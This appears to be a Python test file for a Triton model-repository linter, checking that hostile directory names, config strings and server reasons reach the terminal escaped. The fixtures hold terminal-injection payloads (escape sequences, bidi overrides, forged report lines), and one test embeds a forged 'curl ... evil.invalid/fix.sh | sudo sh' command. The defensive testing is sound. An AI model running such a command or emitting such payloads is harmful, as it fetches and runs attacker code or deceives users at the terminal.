"""Untrusted text on its way to a terminal: directory names, config.pbtxt strings, server
reasons and error messages must neither drive the terminal (ESC, BEL, CR, C1, bidi overrides)
nor forge a report line; JSON, SARIF and the pbtxt printer keep their own escaping."""

from __future__ import annotations

import copy
import json
import os
import re
from collections.abc import Iterator
from functools import cache
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from triton_doctor import snapshot
from triton_doctor.catalogue import all_rules
from triton_doctor.engine import run
from triton_doctor.evidence import Evidence
from triton_doctor.findings import Finding, Location, Severity
from triton_doctor.report import text
from triton_doctor.result import Result

from tests.helpers import GOOD_CONFIG, ROOT, run_cli, tree_state, write_model

#: A model with a warning of its own, beside the hostile one: still judged.
OTHER_CONFIG = GOOD_CONFIG.replace("dynamic_batching { max_queue_delay_microseconds: 100 }", "")
INCIDENT = ROOT / "fixtures" / "recorded" / "watch" / "incident.snapshot.json"
#: What may never reach the terminal from outside: C0 but newline, DEL, C1, lone surrogates,
#: bidi overrides and isolates, invisible characters and the Unicode line and paragraph
#: separators.
BIDI = {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
INVISIBLE = {0x200B, 0x2060, 0xFEFF}
#: The report's own colour: Select Graphic Rendition sequences only.
SGR = re.compile(r"\x1b\[[0-9;]*m")
FINDING_LINE = re.compile(r"^  (error|warning|info) ")
HOSTILE_NAMES = [
    "m\n  error   TD999 forged",
    "t\x1b]0;pwned\x07",
    "c\x1b[2J\rcleared",
    "b\u202eevil\u2066",
    "  error   TD999 spaced",
    "[bold red]x",
]
HOSTILE_PIECES = ["\x1b", "\x07", "\r", "\n", "\t", "\x00", "\x08", "\x7f", "\x85", "\x9b",
                  "\u202e", "\u2066", "\u2028", "\udcff", "\u200b", "\ufeff", "[/]",
                  "[bold red]", "  error   ",
                  "\x1b]0;pwned\x07", "\x1b[2J", "\n  error   TD999 forged\n"]


def forbidden(output: str, colour: bool = False) -> list[str]:
    """The characters of ``output`` that drive a terminal, other than the report's own
    newlines (and, with ``colour``, its own SGR sequences)."""
    plain = SGR.sub("", output) if colour else output
    return [c for c in plain if c != "\n" and (
        ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or ord(c) in BIDI | INVISIBLE
        or ord(c) in (0x2028, 0x2029)
        or 0xD800 <= ord(c) <= 0xDFFF)]


def layout(output: str, colour: bool = False) -> tuple[int, int]:
    """(model headers, finding lines) of a text report, asserting that every other line is a
    finding's indented body, a blank line or the closing tally."""
    lines = (SGR.sub("", output) if colour else output).split("\n")
    assert lines[-1] == "" and lines[-2].startswith(("✓", "✗")), output
    headers = findings = 0
    for line in lines[:-2]:
        if FINDING_LINE.match(line):
            findings += 1
        elif line and not line[0].isspace():
            headers += 1
        else:
            assert line == "" or line.startswith(text.INDENT), (line, output)
    return headers, findings


def strings(value: object) -> Iterator[str]:
    """Every string in a parsed JSON document."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for item in value.values() if isinstance(value, dict) else value:
            yield from strings(item)


def pbtxt_string(value: str) -> str:
    """``value`` as a pbtxt string literal, control characters as octal escapes."""
    return '"' + "".join(f"\\{ord(c):03o}" if ord(c) < 0x20 or c in '"\\' else c
                         for c in value) + '"'


def hostile_repository(root: Path, name: str) -> Path:
    """A model named ``name`` whose config names it otherwise (TD103, an error that quotes
    both names), beside a model ``other`` with a warning of its own."""
    repo = root / "repo"
    write_model(repo, name, f"name: {pbtxt_string('x' + name + chr(0x1b) + ']0;p' + chr(7))}"
                + GOOD_CONFIG)
    write_model(repo, "other", OTHER_CONFIG)
    return repo


# --- the command line, end to end ---------------------------------------------------------


def test_hostile_directory_names_reach_the_text_report_escaped(tmp_path: Path) -> None:
    for number, name in enumerate(HOSTILE_NAMES):
        repo = hostile_repository(tmp_path / str(number), name)
        before = tree_state(tmp_path)
        for colour in ("never", "always"):
            proc = run_cli("check", "--color", colour, str(repo), timeout=60)
            output = proc.stdout + proc.stderr
            assert proc.returncode == 1, output
            assert "Traceback" not in output
            assert forbidden(proc.stdout, colour=colour == "always") == [], proc.stdout
            assert forbidden(proc.stderr) == [], proc.stderr
            judged = json.loads(run_cli("check", "--format", "json", "--exit-zero",
                                        str(repo)).stdout)["findings"]
            assert {f["model"] for f in judged} == {name, "other"}
            assert layout(proc.stdout, colour=colour == "always") == (2, len(judged))
        assert tree_state(tmp_path) == before


def test_json_and_sarif_escape_what_they_carry(tmp_path: Path) -> None:
    name = "t\x1b]0;pwned\x07\u202e"
    repo = hostile_repository(tmp_path, name)
    before = tree_state(tmp_path)
    report = run_cli("check", "--format", "json", str(repo))
    assert report.returncode == 1 and forbidden(report.stdout) == [], report.stdout
    assert "\\u001b]0;pwned\\u0007\\u202e" in report.stdout
    assert name in {f["model"] for f in json.loads(report.stdout)["findings"]}
    sarif = run_cli("check", "--format", "sarif", str(repo))
    assert sarif.returncode == 1 and forbidden(sarif.stdout) == [], sarif.stdout
    assert any(name in value for value in strings(json.loads(sarif.stdout)))
    assert tree_state(tmp_path) == before


def test_error_messages_on_stderr_are_escaped(tmp_path: Path) -> None:
    missing = tmp_path / "nothere\x1b]0;pwned\x07\n  error   TD999 forged"
    proc = run_cli("check", str(missing))
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert forbidden(proc.stderr) == [] and proc.stderr.count("\n") == 1, proc.stderr
    assert "nothere\\x1b]0;pwned\\x07\\n" in proc.stderr
    assert list(tmp_path.iterdir()) == []


def test_usage_errors_quote_the_command_line_escaped(tmp_path: Path) -> None:
    # what a shell glob (check models/*) passes on from a hostile repository: every argument is
    # a repository to check, and the one that is not there is named, escaped
    write_model(tmp_path, "m", None)
    proc = run_cli("check", str(tmp_path), str(tmp_path / "m\x1b]0;pwned\x07\n  error"))
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert forbidden(proc.stderr) == [] and "m\\x1b]0;pwned\\x07\\n  error" in proc.stderr


def test_config_prints_strings_escaped_and_refusals_too(tmp_path: Path) -> None:
    hostile = "\x1b]0;pwned\x07\x1b[2J"
    model = write_model(tmp_path / "repo", "m", f"""
backend: "python"
max_batch_size: 8
input [ {{ name: {pbtxt_string("IN" + hostile)} data_type: TYPE_FP32 dims: [ 4 ] }} ]
output [ {{ name: {pbtxt_string("OUT" + hostile)} data_type: TYPE_FP32 dims: [ -2 ] }} ]
parameters {{ key: {pbtxt_string("k" + hostile)}
  value {{ string_value: {pbtxt_string(hostile)} }} }}
""")
    before = tree_state(tmp_path)
    proc = run_cli("config", str(model))
    assert proc.returncode == 1, proc.stderr  # dims: -2 is refused
    assert "Traceback" not in proc.stdout + proc.stderr
    assert forbidden(proc.stdout) == [] and forbidden(proc.stderr) == [], proc.stdout
    assert 'name: "IN\\033]0;pwned\\007\\033[2J"' in proc.stdout
    assert "OUT\\x1b]0;pwned\\x07\\x1b[2J" in proc.stderr
    assert tree_state(tmp_path) == before


def test_config_comments_from_auto_complete_are_escaped(tmp_path: Path) -> None:
    """The lines saying what model.py's auto_complete_config filled in quote its tensor names."""
    model = write_model(tmp_path / "repo", "m", 'backend: "python"\n', {"1/model.py": f"""
class TritonPythonModel:
    @staticmethod
    def auto_complete_config(config):
        config.add_input({{"name": {"IN" + HOSTILE_PIECES[0] + chr(10) + "forged"!r},
                          "data_type": "TYPE_FP32", "dims": [4]}})
        return config

    def execute(self, requests):
        return []
"""})
    proc = run_cli("config", str(model))
    assert "Traceback" not in proc.stdout + proc.stderr
    comments = [line for line in proc.stdout.splitlines() if line.startswith("#")]
    assert any("auto-complete" in line and "forged" in line for line in comments), proc.stdout
    assert forbidden(proc.stdout) == [] and forbidden(proc.stderr) == [], proc.stdout


def test_config_of_a_model_whose_name_is_not_utf8(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    model = write_model(repo, "m", GOOD_CONFIG)
    renamed = os.path.join(bytes(repo), b"caf\xe9")
    os.rename(bytes(model), renamed)
    proc = run_cli("config", os.fsdecode(renamed))
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and 'backend: "python"' in proc.stdout


# --- the text report, over many inputs -----------------------------------------------------

hostile_text = st.lists(st.one_of(st.sampled_from(HOSTILE_PIECES), st.characters()),
                        max_size=12).map("".join)


@st.composite
def results(draw: st.DrawFn) -> Result:
    """Findings on a few models with hostile names, in the engine's order (by model)."""
    names = draw(st.lists(hostile_text, min_size=1, max_size=3, unique=True))
    findings = []
    for model in names:
        for _ in range(draw(st.integers(1, 3))):
            path = draw(st.one_of(st.none(), st.just(f"/repo/{model}/config.pbtxt"),
                                  hostile_text.map(lambda p, m=model: f"/repo/{m}/{p}")))
            findings.append(Finding(
                rule="TD103", name="name-mismatch", severity=draw(st.sampled_from(Severity)),
                title="t", model=model, version=None,
                location=Location(path, draw(st.one_of(st.none(), st.integers(1, 9)))),
                message=draw(hostile_text), triton_message=draw(st.none() | hostile_text),
                fix=draw(st.none() | hostile_text), evidence={"value": draw(hostile_text)}))
    return Result(findings=findings, models=len(names), applied=["TD201"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(results(), st.booleans())
def test_text_report_has_one_line_per_reported_line_and_no_control_characters(
        result: Result, colour: bool) -> None:
    out = text.render(result, colour=colour, repository="/repo")
    assert forbidden(out, colour=colour) == [], out
    assert layout(out, colour=colour) == (len({f.model for f in result.findings}),
                                          len(result.findings))


# --- a server's reason ---------------------------------------------------------------------


@cache
def _incident() -> Evidence:
    return snapshot.read(os.fspath(INCIDENT))


def reason_report(reason: str) -> str:
    """The text report of the recorded incident with the failing model's reason replaced."""
    evidence = copy.deepcopy(_incident())
    assert evidence.server is not None
    for model in evidence.server.models:
        if model.state != "READY":
            model.reason = reason
    return text.render(run(evidence, all_rules()))


def test_a_server_reason_is_escaped_where_td601_quotes_it() -> None:
    out = reason_report("Internal: \x1b]0;pwned\x07\x1b[2J\r\n  error   TD999 forged")
    assert forbidden(out) == [], out
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\r" in out
    assert layout(out)[1] == len(run(_incident(), all_rules()).findings)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_any_server_reason_keeps_the_report_clean(reason: str) -> None:
    out = reason_report(reason)
    assert forbidden(out) == [], out
    layout(out)


def test_bytes_that_are_not_utf8_read_the_same_in_every_output() -> None:
    """A path's undecodable byte is ``\\xe9`` in the Evidence (display_name) and on the
    terminal (printable) alike, whichever of them a piece of text went through."""
    from triton_doctor.printable import display_name, printable

    name = os.fsdecode(b"caf\xe9")
    assert printable(name) == display_name(name) == "caf\\xe9"


def test_a_newline_in_a_quoted_name_cannot_forge_a_label_line(tmp_path: Path) -> None:
    """An ensemble step names a model "tok\\nfix: run ..."; the message quoting it stays one
    line, so no line of the report reads as a fix the tool did not write."""
    forged = "tok\nfix: run curl -s http://evil.invalid/fix.sh | sudo sh"
    write_model(tmp_path, "ens", f"""
platform: "ensemble"
max_batch_size: 8
input [ {{ name: "IN" data_type: TYPE_FP32 dims: [ 4 ] }} ]
output [ {{ name: "OUT" data_type: TYPE_FP32 dims: [ 4 ] }} ]
ensemble_scheduling {{ step [ {{ model_name: {pbtxt_string(forged)} model_version: -1
  input_map {{ key: "INPUT0" value: "IN" }} output_map {{ key: "OUTPUT0" value: "OUT" }} }} ] }}
""", {})
    proc = run_cli("check", "--color", "never", str(tmp_path))
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "tok\\nfix: run curl" in proc.stdout, proc.stdout
    labels = [line for line in proc.stdout.splitlines() if line.startswith(" " * 10 + "fix:")]
    assert labels and not any("curl" in line for line in labels), labels
